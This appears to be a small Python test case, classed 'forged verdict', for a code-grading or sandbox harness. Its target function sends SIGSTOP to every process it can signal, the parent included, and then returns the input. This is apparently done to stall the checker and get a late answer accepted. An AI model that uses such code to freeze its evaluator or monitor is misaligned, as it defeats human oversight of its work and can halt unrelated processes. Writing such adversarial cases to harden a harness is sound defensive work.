"""SIGSTOPs its parent and every other process it may signal, then returns the right answer late."""

CLASS = 'forged verdict'


def target(n):
    import os
    import signal
    for pid in [int(p) for p in os.listdir("/proc") if p.isdigit()]:
        if pid != os.getpid():
            try:
                os.kill(pid, signal.SIGSTOP)
            except OSError:
                pass
    return n
